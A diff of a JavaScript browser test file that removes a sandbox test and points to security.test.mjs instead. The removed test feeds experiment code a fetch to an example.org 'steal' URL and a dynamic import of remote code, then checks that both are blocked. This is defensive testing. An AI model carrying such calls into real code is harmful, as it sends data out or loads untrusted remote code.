@@ -178,19 +178,8 @@ test('an exception in a callback ends the run at its line', async () => {
   await page.close();
 });
 
-test('experiment code cannot reach the network', async () => {
-  const { page, requests } = await openLab(lab);
-  await setCode(page, 'print("before");\nawait fetch("http://example.org/steal?" + "x");\n');
-  await page.click(`${CELL} [data-action="run"]`);
-  assert.equal(await waitForRunEnd(page, 1), 'failed');
-  assert.match(await consoleText(page), /before[\s\S]*Error: fetch is not available in an experiment.* \(line 2, col \d+\)/);
-  await setCode(page, 'const m = await import("http://example.org/x.js");\n');
-  await page.click(`${CELL} [data-action="run"]`);
-  assert.equal(await waitForRunEnd(page, 2), 'failed');
-  assert.match(await consoleText(page), /SyntaxError: 'import\(\)' is not available in an experiment.* \(line 1, col 17\)/);
-  assert.deepEqual(foreignRequests(requests, lab.url), []);
-  await page.close();
-});
+// What experiment code cannot reach (the network, the site, the page) is tested in
+// security.test.mjs.
 
 // Last in the file: every request of every test above, not only those a test checked.
 test('no request left the sites the tests served, and the pages\' policy refused nothing, in any test of this file', () => {
